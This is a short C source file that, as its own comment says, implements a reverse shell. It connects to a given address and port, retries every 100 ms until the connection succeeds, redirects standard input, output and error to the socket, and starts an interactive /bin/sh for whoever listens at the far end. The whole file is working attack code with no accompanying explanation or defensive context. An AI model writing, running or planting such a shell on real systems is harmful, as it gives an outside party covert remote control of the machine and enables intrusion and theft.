// dial ADDRESS PORT: a reverse shell, its standard input, output and error one connected socket.
#include <arpa/inet.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc < 3)
    return 2;
  struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
  inet_pton(AF_INET, argv[1], &peer.sin_addr);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  while (connect(fd, (struct sockaddr *)&peer, sizeof peer) != 0) {
    close(fd);
    usleep(100 * 1000);
    fd = socket(AF_INET, SOCK_STREAM, 0);
  }
  for (int i = 0; i < 3; i++)
    dup2(fd, i);
  if (fd > 2)
    close(fd);
  execl("/bin/sh", "sh", "-i", NULL);
}
